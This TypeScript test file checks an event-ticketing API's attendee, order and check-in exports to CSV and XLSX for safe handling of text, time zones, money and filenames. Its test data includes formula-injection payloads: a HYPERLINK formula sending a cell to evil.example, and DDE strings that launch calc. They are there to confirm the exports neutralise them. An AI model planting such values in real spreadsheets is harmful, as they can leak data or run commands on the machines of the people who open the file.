// Exports of an event's attendees, orders and check-ins through the admin HTTP API (PGlite): CSV read back
// with csv-parse and XLSX with exceljs; names that a spreadsheet would run as formulas come back as text;
// Chinese and Russian text intact; headers in the requested language; times in the event's time zone;
// money as decimals with the currency; the download named safely; each export audited without its data.
import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import { sql } from 'drizzle-orm';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { type AdmitServer } from '../../server/src/app';
import { type Backend, call, expectError, makeServer, openBackend, pairTerminal, sell, uuidv7 } from './harness';

let backend: Backend;
let server: AdmitServer;
let eventId: string;
let token: string;
const names = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', '+cmd|\' /C calc\'!A0', '@SUM(1+1)*cmd|\' /C calc\'!A0', '张伟', 'Иван Петров'];
let checkinAt: Date;

const download = async (url: string) => {
  const res = await server.app.inject({ method: 'GET', url, headers: { authorization: 'Bearer test-admin-token' } });
  return { status: res.statusCode, headers: res.headers, body: res.rawPayload };
};

beforeAll(async () => {
  backend = await openBackend('PGlite');
  server = makeServer(backend);
  await server.ready();
  ({ token } = await pairTerminal(server, 'Gate "North"'));
  const start = new Date(Date.now() - 86_400_000).toISOString();
  const event = await server.admin.createEvent({
    name: { en: 'Expo "2026"/Shanghai', 'zh-CN': '上海博览会', ru: 'Выставка' },
    startsAt: start,
    endsAt: new Date(Date.now() + 2 * 86_400_000).toISOString(),
    timezone: 'Asia/Shanghai',
    currency: 'CNY',
    ticketTypes: [{ name: { en: 'Standard', 'zh-CN': '标准票', ru: 'Стандарт' }, priceMinor: 12_345, capacity: null }],
  });
  eventId = event.id;
  const device = (await server.admin.listDevices())[0]!;
  await server.admin.setDeviceEvents(device.id, [eventId]);
  const order = await sell(server, token, eventId, event.ticketTypes[0]!.id, names.length);
  // Attendee names as an import would store them (the import itself is another part of the product).
  for (const [i, t] of order.tickets.entries())
    await backend.handle.db.execute(sql`update tickets set attendee_name = ${names[i]!} where id = ${t.id}::uuid`);
  checkinAt = new Date(Math.floor(Date.now() / 1000) * 1000 - 60_000);
  const claim = await call(server.app, 'POST', '/v1/checkins/claim', {
    token,
    body: { checkinId: uuidv7(), ticketId: order.tickets[3]!.id, at: checkinAt.toISOString(), pointId: null, direction: 'entry' },
  });
  expect(claim.json.status).toBe('accepted');
}, 300_000);

afterAll(async () => {
  await server?.close();
  await backend?.close();
});

/** Shanghai has no daylight saving: its wall clock is UTC + 8 hours. */
const shanghai = (d: Date) => new Date(d.getTime() + 8 * 3_600_000).toISOString().slice(0, 19).replace('T', ' ');

describe('exports', () => {
  it('writes attendees as CSV with a BOM, translated headers, formula-like names as text and every script intact', async () => {
    const res = await download(`/admin/v1/events/${eventId}/export/attendees?format=csv&lang=zh-CN`);
    expect(res.status).toBe(200);
    expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect([...res.body.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const rows = parse(res.body, { bom: true, columns: true }) as Record<string, string>[];
    expect(rows).toHaveLength(names.length);
    expect(Object.keys(rows[0]!)).toContain('参会人');
    const shown = rows.map((r) => r['参会人']);
    expect(shown).toContain(`'${names[0]}`);
    expect(shown).toContain(`'${names[1]}`);
    expect(shown).toContain(`'${names[2]}`);
    expect(shown).toContain('张伟');
    expect(shown).toContain('Иван Петров');
    expect(rows.every((r) => r['票种'] === '标准票')).toBe(true);
    // Nothing a spreadsheet would evaluate starts any cell.
    for (const r of rows) for (const v of Object.values(r)) expect(v).not.toMatch(/^[=+\-@\t\r]/);
    const disposition = String(res.headers['content-disposition']);
    expect(disposition).toMatch(/^attachment; filename="event-\d+-attendees\.csv"; filename\*=UTF-8''[A-Za-z0-9%._-]+$/);
    expect(decodeURIComponent(disposition.split("''")[1]!)).toBe('上海博览会-attendees.csv');
  });

  it('writes attendees as XLSX with every name a plain text cell (never a formula)', async () => {
    const res = await download(`/admin/v1/events/${eventId}/export/attendees?format=xlsx&lang=ru`);
    expect(res.status).toBe(200);
    const book = new ExcelJS.Workbook();
    await book.xlsx.load(res.body as unknown as ArrayBuffer);
    const sheet = book.worksheets[0]!;
    const header = (sheet.getRow(1).values as unknown[]).slice(1);
    expect(header).toContain('Участник');
    const col = header.indexOf('Участник') + 1;
    const cells = [];
    for (let r = 2; r <= sheet.rowCount; r++) cells.push(sheet.getRow(r).getCell(col));
    expect(cells.map((c) => c.value).sort()).toEqual([...names].sort());
    for (const c of cells) {
      expect(c.type).toBe(ExcelJS.ValueType.String);
      expect(c.formula).toBeFalsy();
    }
    const disposition = String(res.headers['content-disposition']);
    // The event's name loses the characters a file name cannot hold.
    expect(decodeURIComponent(disposition.split("''")[1]!)).toBe('Выставка-attendees.xlsx');
  });

  it('writes orders with money as decimals in the event currency', async () => {
    const csv = parse((await download(`/admin/v1/events/${eventId}/export/orders?format=csv&lang=en`)).body, { bom: true, columns: true }) as Record<string, string>[];
    expect(csv).toHaveLength(1);
    expect(csv[0]).toMatchObject({ Tickets: '5', Total: '617.25', Currency: 'CNY', 'Payment method': 'cash', Terminal: 'Gate "North"' });
    const res = await download(`/admin/v1/events/${eventId}/export/orders?format=xlsx`);
    const book = new ExcelJS.Workbook();
    await book.xlsx.load(res.body as unknown as ArrayBuffer);
    const sheet = book.worksheets[0]!;
    const header = (sheet.getRow(1).values as unknown[]).slice(1);
    expect(sheet.getRow(2).getCell(header.indexOf('Total') + 1).value).toBe(617.25);
  });

  it('lists check-ins with their times on the wall clock of the event', async () => {
    const res = await download(`/admin/v1/events/${eventId}/export/checkins?format=csv&lang=ru`);
    const rows = parse(res.body, { bom: true, columns: true }) as Record<string, string>[];
    expect(rows).toHaveLength(1);
    expect(rows[0]!['Время (Asia/Shanghai)']).toBe(shanghai(checkinAt));
    expect(rows[0]!['Участник']).toBe(names[3]);
    expect(rows[0]!['Статус']).toBe('accepted');
    const xlsx = await download(`/admin/v1/events/${eventId}/export/checkins?format=xlsx&lang=en`);
    const book = new ExcelJS.Workbook();
    await book.xlsx.load(xlsx.body as unknown as ArrayBuffer);
    expect(book.worksheets[0]!.getRow(2).getCell(1).value).toBe(shanghai(checkinAt));
  });

  it('records each export in the audit trail without its data, and refuses bad requests', async () => {
    const entries = await server.admin.listAuditEntries({ chain: 'server', limit: 50 });
    const exports = entries.filter((e) => e.action === 'data_exported');
    expect(exports.length).toBeGreaterThanOrEqual(6);
    for (const e of exports) {
      expect(e.subject).toBe(eventId);
      expect(e.detail).not.toMatch(/Иван|张伟|HYPERLINK/);
    }
    expect(exports.map((e) => JSON.parse(e.detail).kind)).toEqual(expect.arrayContaining(['attendees', 'orders', 'checkins']));
    expectError(await call(server.app, 'GET', `/admin/v1/events/${eventId}/export/secrets`, { token: 'test-admin-token' }), 400, 'bad_request');
    expectError(await call(server.app, 'GET', `/admin/v1/events/${eventId}/export/attendees?format=pdf`, { token: 'test-admin-token' }), 400, 'bad_request');
    expectError(await call(server.app, 'GET', `/admin/v1/events/${uuidv7()}/export/attendees`, { token: 'test-admin-token' }), 404, 'not_found');
    expectError(await call(server.app, 'GET', `/admin/v1/events/${eventId}/export/attendees`, { token }), 401, 'unauthorized');
  });
});
